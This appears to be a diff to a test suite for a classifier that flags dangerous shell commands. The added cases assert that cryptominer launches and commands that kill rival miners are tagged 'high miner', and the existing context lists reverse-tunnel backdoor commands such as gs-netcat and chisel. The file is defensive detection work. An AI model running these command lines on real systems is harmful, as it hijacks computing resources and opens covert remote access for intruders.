@@ -12,6 +12,13 @@ describe('folders shown to whoever asks', () => {
 	});
 });
 
+test.each(['/opt/.cache/rcu_tasks -o 198.51.100.61:14444 -u x --coin monero -k -B', './k --algo=rx/0 -o 198.51.100.61:1', 'pkill -9 kinsing', 'killall -9 kdevtmpfsi xmrig'])('miners: %s', text => {
+	expect(kinds(text)).toContain('high miner');
+});
+test.each(['pkill -9 nginx', 'coin --list', 'convert --algo md5 monero.png', 'grep kinsing /var/log/syslog'])('no miners: %s', text => {
+	expect(kinds(text)).toEqual([]);
+});
+
 describe('tunnels that let somebody in', () => {
 	test.each([
 		['gs-netcat -s secret -l -i -q', 'high reverse-tunnel'], ['exec -a sshd /usr/bin/gs-netcat -liqs x', 'high reverse-tunnel'], ['chisel client https://203.0.113.9 R:socks', 'high reverse-tunnel'], ['./agent -connect 203.0.113.9:11601 -ignore-cert', 'high reverse-tunnel'],
